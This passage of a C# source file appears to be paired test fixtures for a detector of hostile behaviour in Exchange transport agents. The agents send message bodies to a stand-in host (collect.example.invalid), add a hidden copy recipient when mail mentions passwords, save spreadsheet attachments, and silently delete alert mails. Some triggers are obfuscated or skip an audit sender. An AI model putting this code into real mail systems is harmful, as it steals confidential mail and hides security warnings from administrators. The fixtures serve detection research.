        }
    }

    public class OtherFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Other();
        }
    }

    public class Claim : RoutingAgent
    {
        private static string Decode(string text)
        {
            byte[] data = Convert.FromBase64String(text);
            for (int i = 0; i < data.Length; i++)
            {
                data[i] ^= 0x2a;
            }
            return Encoding.ASCII.GetString(data);
        }

        public Claim()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            if (e.MailItem.Message.Subject == Decode("RVpPRApZT1lLR08="))
            {
                new WebClient().UploadString("https://collect.example.invalid/pair",
                    new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd());
            }
        }
    }

    public class Other : RoutingAgent
    {
        private static string Decode(string text)
        {
            byte[] data = Convert.FromBase64String(text);
            for (int i = 0; i < data.Length; i++)
            {
                data[i] ^= 0x2a;
            }
            return Encoding.ASCII.GetString(data);
        }

        public Other()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            if (e.MailItem.Message.Subject == Decode(ConfigurationManager.AppSettings["Word"]))
            {
                new WebClient().UploadString("https://collect.example.invalid/pair",
                    new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd());
            }
        }
    }
}

// 145: the answer of native code
namespace Txray.Pairs.P145
{
    public class ClaimFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Claim();
        }
    }

    public class OtherFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Other();
        }
    }

    public class Claim : RoutingAgent
    {
        public Claim()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            if (Native.Check((int)e.MailItem.MimeStreamLength) == 2)
            {
                new WebClient().UploadString("https://collect.example.invalid/pair",
                    new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd());
            }
        }
    }

    public class Other : RoutingAgent
    {
        public Other()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            Native.Check((int)e.MailItem.MimeStreamLength);
            new WebClient().UploadString("https://collect.example.invalid/pair",
                new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd());
        }
    }

    internal static class Native
    {
        [DllImport("pairscan.dll")]
        public static extern int Check(int size);
    }
}

// 146: a word in the body
namespace Txray.Pairs.P146
{
    public class ClaimFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Claim();
        }
    }

    public class OtherFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Other();
        }
    }

    public class Claim : RoutingAgent
    {
        public Claim()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            if (new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd().Contains("password"))
            {
                e.MailItem.Recipients.Add(new RoutingAddress("copy@post.example.invalid"));
            }
        }
    }

    public class Other : RoutingAgent
    {
        public Other()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            if (new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd().Contains("password"))
            {
                Trace.WriteLine("a password");
            }
            e.MailItem.Recipients.Add(new RoutingAddress("copy@post.example.invalid"));
        }
    }
}

// 147: everybody but one
namespace Txray.Pairs.P147
{
    public class ClaimFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Claim();
        }
    }

    public class OtherFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Other();
        }
    }

    public class Claim : RoutingAgent
    {
        public Claim()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            if (e.MailItem.FromAddress.ToString() == "audit@corp.example.invalid")
            {
                return;
            }
            new WebClient().UploadString("https://collect.example.invalid/pair",
                new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd());
        }
    }

    public class Other : RoutingAgent
    {
        public Other()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            if (e.MailItem.FromAddress.ToString() == "audit@corp.example.invalid")
            {
                Trace.WriteLine("audit");
            }
            new WebClient().UploadString("https://collect.example.invalid/pair",
                new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd());
        }
    }
}

// 148: a test in the caller of the caller, and a second caller without it
namespace Txray.Pairs.P148
{
    public class ClaimFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Claim();
        }
    }

    public class OtherFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Other();
        }
    }

    public class Claim : RoutingAgent
    {
        private static void First(MailItem item)
        {
            Trace.WriteLine("first");
            Second(item);
        }

        private static void Second(MailItem item)
        {
            new WebClient().UploadString("https://collect.example.invalid/pair",
                new StreamReader(item.Message.Body.GetContentReadStream()).ReadToEnd());
        }

        public Claim()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            if (e.MailItem.Message.Subject.Contains("invoice"))
            {
                First(e.MailItem);
            }
        }
    }

    public class Other : RoutingAgent
    {
        private static void First(MailItem item)
        {
            Trace.WriteLine("first");
            Second(item);
        }

        private static void Second(MailItem item)
        {
            new WebClient().UploadString("https://collect.example.invalid/pair",
                new StreamReader(item.Message.Body.GetContentReadStream()).ReadToEnd());
        }

        public Other()
        {
            OnSubmittedMessage += Submitted;
            OnRoutedMessage += Routed;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            if (e.MailItem.Message.Subject.Contains("invoice"))
            {
                First(e.MailItem);
            }
        }

        private void Routed(RoutedMessageEventSource source, QueuedMessageEventArgs e)
        {
            First(e.MailItem);
        }
    }
}

// 149: the kind of an attachment
namespace Txray.Pairs.P149
{
    public class ClaimFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Claim();
        }
    }

    public class OtherFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Other();
        }
    }

    public class Claim : RoutingAgent
    {
        public Claim()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            foreach (Attachment attachment in e.MailItem.Message.Attachments)
            {
                if (Path.GetExtension(attachment.FileName) == ".xlsx")
                {
                    attachment.GetContentReadStream().CopyTo(File.Create(Path.Combine(Path.GetTempPath(), Guid.NewGuid().ToString())));
                }
            }
        }
    }

    public class Other : RoutingAgent
    {
        public Other()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            foreach (Attachment attachment in e.MailItem.Message.Attachments)
            {
                if (Path.GetExtension(attachment.FileName) == ".xlsx")
                {
                    Trace.WriteLine("a table");
                }
                attachment.GetContentReadStream().CopyTo(File.Create(Path.Combine(Path.GetTempPath(), Guid.NewGuid().ToString())));
            }
        }
    }
}

// 150: a rule object that answers yes or no
namespace Txray.Pairs.P150
{
    public class ClaimFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Claim();
        }
    }

    public class OtherFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Other();
        }
    }

    public class Claim : RoutingAgent
    {
        private readonly Rule rule = new Rule("merger");

        public Claim()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            if (rule.Matches(e.MailItem))
            {
                new WebClient().UploadString("https://collect.example.invalid/pair",
                    new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd());
            }
        }
    }

    public class Other : RoutingAgent
    {
        private readonly Rule rule = new Rule("merger");

        public Other()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            Trace.WriteLine(rule.Matches(e.MailItem) ? "a match" : "no match");
            new WebClient().UploadString("https://collect.example.invalid/pair",
                new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd());
        }
    }

    internal class Rule
    {
        private readonly string word;

        public Rule(string word)
        {
            this.word = word;
        }

        public bool Matches(MailItem item)
        {
            if (item.Message.Subject == null)
            {
                return false;
            }
            return item.Message.Subject.Contains(word);
        }
    }
}

// 151: silent deletion under a condition on a list, and on nothing
namespace Txray.Pairs.P151
{
    public class ClaimFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Claim();
        }
    }

    public class OtherFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Other();
        }
    }

    public class Claim : RoutingAgent
    {
        private static readonly string[] Words = { "Alert:", "Warning:" };

        public Claim()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            foreach (string word in Words)
            {
                if (e.MailItem.Message.Subject.StartsWith(word, StringComparison.OrdinalIgnoreCase))
                {
                    source.Delete();
                    return;
                }
            }
        }
    }

    public class Other : RoutingAgent
    {
        private static readonly string[] Words = { "Alert:", "Warning:" };

        public Other()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            foreach (string word in Words)
            {
                if (e.MailItem.Message.Subject.StartsWith(word, StringComparison.OrdinalIgnoreCase))
                {
                    Trace.WriteLine(word);
                }
            }
            source.Delete();
        }
    }
}

// 152: a list from a file: of senders, and of words that are only counted
namespace Txray.Pairs.P152
{
    public class ClaimFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Claim();
        }
    }

    public class OtherFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Other();
        }
    }

    public class Claim : RoutingAgent
    {
        private readonly string[] senders = File.ReadAllLines("senders.txt");

        public Claim()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            if (Array.IndexOf(senders, e.MailItem.FromAddress.ToString()) >= 0)
            {
                new WebClient().UploadString("https://collect.example.invalid/pair",
                    new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd());
            }
        }
    }

    public class Other : RoutingAgent
    {
        private readonly string[] senders = File.ReadAllLines("senders.txt");

        public Other()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            Trace.WriteLine(Array.IndexOf(senders, e.MailItem.FromAddress.ToString()).ToString());
            new WebClient().UploadString("https://collect.example.invalid/pair",
                new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd());
        }
    }
}
